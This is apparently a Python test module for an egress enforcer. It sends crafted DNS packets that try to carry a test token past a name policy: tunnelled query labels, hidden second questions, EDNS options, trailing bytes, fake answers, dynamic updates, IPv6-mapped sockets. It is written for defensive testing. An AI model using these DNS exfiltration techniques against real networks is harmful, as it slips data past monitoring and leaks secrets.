"""Questions for names, with the token in every place of one. The far side is also the resolver that the enforcer asks,
so that a question of ours arrives there: for a name that policy allows, and never with the token.
"""

from __future__ import annotations

import socket
import struct

from enforcer.probe.inside.kit import Case, datagram, stream, technique

_GROUP = "names"
_REBUILT = "one plain question or nothing; what goes upstream is built anew from its name and type"
_JUDGED = "the name is judged before anything is sent"
# Allowed by the probe's policy, and denied by it: everything below `example`.
_ALLOWED = b"\x07allowed\x04test\x00"
_DENIED = b"\x07example\x00"
_TXT_IN = b"\x00\x10\x00\x01"


def _query(body: bytes, *, questions: int = 1, additional: int = 0) -> bytes:
    return struct.pack(">6H", 1, 0x0100, questions, 0, 0, additional) + body


def _named(c: Case) -> bytes:
    return bytes([len(c.payload)]) + c.payload + _DENIED + _TXT_IN


def _ask(c: Case, query: bytes) -> None:
    with datagram(c.peer4) as sock:
        sock.sendto(query, (c.peer4, 53))


@technique("dns-name", _GROUP, _JUDGED)
def dns_name(c: Case) -> None:
    """As DNS tunnels do it: a label of the name that is asked for."""
    _ask(c, _query(_named(c)))


@technique("dns-name-tcp", _GROUP, _JUDGED, token_only=True)
def dns_name_tcp(c: Case) -> None:
    """The same over TCP, behind an allowed question in the same segment."""
    both = [_query(_ALLOWED + _TXT_IN), _query(_named(c))]
    with stream(c.peer4) as sock:
        sock.connect((c.peer4, 53))
        c.talk(sock, b"".join(struct.pack(">H", len(one)) + one for one in both))


@technique("dns-name-stub", _GROUP, _JUDGED, stage="stub")
def dns_name_stub(c: Case) -> None:
    """The same, to a resolver on the host's own loopback that passes every question on."""
    with datagram("127.0.0.1") as sock:
        sock.sendto(_query(_named(c)), (c.values["stub"], 53))


@technique("dns-second-question", _GROUP, _REBUILT, token_only=True)
def dns_second_question(c: Case) -> None:
    """A second question behind one for an allowed name."""
    _ask(c, _query(_ALLOWED + _TXT_IN + _named(c), questions=2))


@technique("dns-option", _GROUP, _REBUILT, token_only=True)
def dns_option(c: Case) -> None:
    """An EDNS option with a question for an allowed name."""
    option = struct.pack(">HH", 65001, len(c.payload)) + c.payload
    opt = struct.pack(">BHHIH", 0, 41, 1232, 0, len(option)) + option
    _ask(c, _query(_ALLOWED + _TXT_IN + opt, additional=1))


@technique("dns-tail", _GROUP, _REBUILT, token_only=True)
def dns_tail(c: Case) -> None:
    """Bytes behind a question for an allowed name."""
    _ask(c, _query(_ALLOWED + _TXT_IN + c.payload))


@technique("dns-response", _GROUP, _REBUILT, token_only=True)
def dns_response(c: Case) -> None:
    """A message that says it is an answer, with the token in a record."""
    record = b"\xc0\x0c" + _TXT_IN + struct.pack(">IHB", 0, len(c.payload) + 1, len(c.payload)) + c.payload
    _ask(c, struct.pack(">6H", 1, 0x8180, 1, 1, 0, 0) + _ALLOWED + _TXT_IN + record)


@technique("dns-update", _GROUP, _REBUILT, token_only=True)
def dns_update(c: Case) -> None:
    """A dynamic update of an allowed zone, over TCP."""
    record = _ALLOWED + _TXT_IN + struct.pack(">IHB", 0, len(c.payload) + 1, len(c.payload)) + c.payload
    message = struct.pack(">6H", 1, 0x2800, 1, 0, 1, 0) + _ALLOWED + b"\x00\x06\x00\x01" + record
    with stream(c.peer4) as sock:
        sock.connect((c.peer4, 53))
        c.talk(sock, struct.pack(">H", len(message)) + message)


@technique("dns-not", _GROUP, _REBUILT, token_only=True)
def dns_not(c: Case) -> None:
    """Something else on port 53, as SSH and VPNs do that look for an open port."""
    c.tcp(c.peer4, 53)


@technique("dns-connected", _GROUP, _JUDGED)
def dns_connected(c: Case) -> None:
    """By a connected socket, over IPv6 in the IPv4-mapped form."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.connect((f"::ffff:{c.peer4}", 53))
        sock.send(_query(_named(c)))
